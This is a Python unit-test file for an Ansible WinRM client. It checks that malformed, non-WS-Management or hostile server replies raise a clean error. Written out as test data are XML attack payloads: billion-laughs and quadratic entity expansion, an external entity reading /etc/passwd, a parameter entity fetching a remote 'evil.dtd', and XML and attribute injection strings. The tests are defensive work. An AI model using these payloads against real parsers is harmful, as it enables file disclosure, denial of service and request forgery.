# SPDX-FileCopyrightText: sms.helpdesk contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Answers that are no WS-Management, by accident or on purpose. A client is not trusted."""

from __future__ import annotations

import types
import typing as t

import pytest
import requests
from ansible_collections.sms.helpdesk.plugins.plugin_utils._errors import HelpdeskError, Unreachable
from ansible_collections.sms.helpdesk.tests.unit.plugins.helpers.wsman import (
    created,
    deleted,
    done,
    envelope,
    fault,
    received,
    session,
    started,
)
from hypothesis import given
from hypothesis import strategies as st
from winrm.exceptions import InvalidCredentialsError, WinRMError, WinRMTransportError

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
    + envelope("<x>&i;</x>")
)
QUADRATIC = f'<!DOCTYPE l [<!ENTITY a "{"x" * 50_000}">]>' + envelope("&a;" * 5_000)
EXTERNAL = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + envelope("<x>&a;</x>")
PARAMETER = '<!DOCTYPE l [<!ENTITY % a SYSTEM "http://192.0.2.1/evil.dtd"> %a;]>' + envelope("")
BARE_DTD = "<!DOCTYPE envelope>" + envelope("")
HTML = "<!DOCTYPE html><html><head><title>It works!</title></head><body><p>hello<br></body></html>"


class TestNoEnvelope:
    @pytest.mark.parametrize("status", [200, 500, 404, 503])
    @pytest.mark.parametrize(
        "content",
        [BILLION_LAUGHS, QUADRATIC, EXTERNAL, PARAMETER, BARE_DTD, HTML],
        ids=["billion-laughs", "quadratic", "external", "parameter", "bare-dtd", "html"],
    )
    def test_document_type_declarations(self, status: int, content: str) -> None:
        client, wire = session(("Create", content if status == 200 else (status, content)))
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        wire.assert_used_up()
        assert caught.value.reason == "not-winrm"
        assert "root:" not in str(caught.value)

    @pytest.mark.parametrize("status", [200, 500, 404])
    @pytest.mark.parametrize(
        "content",
        [
            "",
            " ",
            "Not Found",
            "<html><body>404</body></html>",
            "{}",
            "<s:Envelope",
            created()[:-20],
            created().replace("s:Envelope", "s:Letter"),
            "\0" * 100,
            "<a>" * 50_000,
            '<?xml version="1.0" encoding="no-such"?><a/>',
            created() + created(),
        ],
    )
    def test_anything_else(self, status: int, content: str) -> None:
        client, wire = session(("Create", content if status == 200 else (status, content)))
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        wire.assert_used_up()
        assert caught.value.reason == "not-winrm"
        assert_one_sentence(caught.value)

    @pytest.mark.parametrize("content", [b"\xff\xfe\x00", b"\x80\x81", bytes(range(256))])
    def test_bytes_of_any_kind(self, content: bytes) -> None:
        client, _wire = session(("Create", content))
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        assert caught.value.reason == "not-winrm"

    @pytest.mark.parametrize(("status", "reason"), [(403, "access-denied"), (404, "not-winrm"), (502, "not-winrm"), (301, "not-winrm")])
    def test_by_status(self, status: int, reason: str) -> None:
        client, _wire = session(("Create", (status, "")))
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        assert caught.value.reason == reason
        assert str(status) in str(caught.value)

    def test_a_fault_with_a_success_status_is_a_fault(self) -> None:
        client, _wire = session(("Create", fault(5, "w:AccessDenied")[1]))
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        assert caught.value.reason == "access-denied"

    def test_an_envelope_with_a_failure_status_and_no_fault_is_no_success(self) -> None:
        client, _wire = session(("Create", (500, created())))
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        assert caught.value.reason == "not-winrm"


class TestEnvelopesOfTheWrongKind:
    @pytest.mark.parametrize("answer", [envelope(""), deleted(), started(), envelope("<w:Selector Name='ShellId'/>")])
    def test_no_shell_in_it(self, answer: str) -> None:
        client, wire = session(("Create", answer))
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        assert caught.value.reason == "not-winrm"
        wire.assert_used_up()

    @pytest.mark.parametrize("answer", [envelope(""), envelope("<rsp:CommandResponse><rsp:CommandId/></rsp:CommandResponse>")])
    def test_no_command_in_it(self, answer: str) -> None:
        client, wire = session(("Create", created()), ("Command", answer), ("Delete", deleted()))
        with client, pytest.raises(Unreachable) as caught:
            client.run("ver")
        assert caught.value.reason == "not-winrm"
        wire.assert_used_up()

    @pytest.mark.parametrize("text", ["A", "ABC", "ü", "A" * 4097])
    def test_output_that_is_no_base64(self, text: str) -> None:
        answer = done(b"").replace("</rsp:Stream>", f"{text}</rsp:Stream>")
        client, wire = session(
            ("Create", created()), ("Command", started()), ("Receive", answer), ("Signal", envelope("")), ("Delete", deleted())
        )
        with client, pytest.raises(Unreachable) as caught:
            client.run("ver")
        assert caught.value.reason == "not-winrm"
        wire.assert_used_up()

    def test_ids_cannot_break_out_of_the_next_request(self) -> None:
        nasty = "&lt;/w:Selector&gt;&lt;evil/&gt;&amp;"
        client, wire = session(
            ("Create", created(nasty)),
            ("Command", started(nasty)),
            ("Receive", received(exit_code=0)),
            ("Delete", deleted()),
        )
        with client:
            client.run("ver")
        wire.assert_used_up()
        assert all("<evil" not in request.text for request in wire.requests)

    def test_a_quotation_mark_in_a_command_id(self) -> None:
        client, wire = session(
            ("Create", created()), ("Command", started('x" Evil="1')), ("Receive", received(exit_code=0)), ("Delete", deleted())
        )
        with client:
            client.run("ver")
        wire.assert_used_up()
        stream = next(iter(wire.requests[2].body.iter("{http://schemas.microsoft.com/wbem/wsman/1/windows/shell}DesiredStream")))
        assert stream.attrib == {"CommandId": 'x" Evil="1'}


class TestConnections:
    @pytest.mark.parametrize(
        ("error", "reason"),
        [
            (InvalidCredentialsError("the specified credentials were rejected by the server"), "credentials"),
            (requests.ConnectionError(ConnectionRefusedError(111, "refused")), "refused"),
            (requests.ReadTimeout("read timed out"), "timeout"),
            (ConnectionResetError(104, "reset by peer"), "reset"),
            (WinRMTransportError("http", 500, ""), "not-winrm"),
            (RuntimeError("whatever"), "error"),
        ],
    )
    def test_what_the_transport_raises(self, error: Exception, reason: str) -> None:
        client, wire = session(("Create", error))
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        wire.assert_used_up()
        assert caught.value.reason == reason
        assert caught.value.__suppress_context__
        assert_one_sentence(caught.value)

    def test_options_that_pywinrm_cannot_use(self) -> None:
        client, wire = session()

        def refuse() -> t.Any:
            raise WinRMError("requested auth method is kerberos, but pykerberos is not installed")

        wire.build_session = refuse  # type: ignore[method-assign]
        with client, pytest.raises(Unreachable) as caught:
            client.open()
        assert caught.value.reason == "configuration"
        assert "pykerberos" in str(caught.value)

    @pytest.mark.parametrize("step", ["Command", "Receive"])
    def test_a_client_that_cannot_be_reached_any_more_is_not_asked_to_tidy_up(self, step: str) -> None:
        lost = requests.ConnectTimeout("timed out")
        steps: list[tuple[str, t.Any]] = [("Create", created()), ("Command", started()), ("Receive", lost)]
        if step == "Command":
            steps[1:] = [("Command", lost)]
        client, wire = session(*steps)
        with pytest.raises(Unreachable), client:
            client.run("ver")
        wire.assert_used_up()

    def test_one_that_only_cut_the_line_is(self) -> None:
        client, wire = session(
            ("Create", created()),
            ("Command", started()),
            ("Receive", ConnectionResetError(104, "reset")),
            ("Signal", envelope("")),
            ("Delete", deleted()),
        )
        with client, pytest.raises(Unreachable) as caught:
            client.run("ver")
        wire.assert_used_up()
        assert caught.value.reason == "reset"

    def test_the_security_context_of_a_lost_connection_is_not_used_again(self) -> None:
        client, wire = session(("Create", created()), ("Command", ConnectionResetError(104, "reset")), ("Delete", deleted()))
        wire.encryption = types.SimpleNamespace()
        with pytest.raises(Unreachable), client:
            client.run("ver")
        assert wire.encryption is None

    def test_the_environment_is_not_searched_for_every_post(self) -> None:
        client, wire = session(("Create", created()), ("Delete", deleted()))
        with client:
            client.open()
            assert wire.session.trust_env is False


def assert_one_sentence(error: HelpdeskError) -> None:
    text = str(error)
    assert text.isprintable()
    assert "Traceback" not in text
    assert text.startswith("pc07: ")
    assert text.endswith(".")
    assert error.__traceback__ is not None


@given(st.binary(max_size=300))
def test_no_answer_raises_anything_else(data: bytes) -> None:
    for steps in (
        [("Create", data)],
        [("Create", created()), ("Command", data), ("Delete", data)],
        [("Create", created()), ("Command", started()), ("Receive", data), ("Signal", data), ("Delete", data)],
    ):
        client, _wire = session(*steps)
        with pytest.raises(Unreachable), client:
            client.run("ver")
    client, _wire = session(("Enumerate", data))
    with pytest.raises(Unreachable), client:
        client.query("SELECT Name FROM Win32_Process")
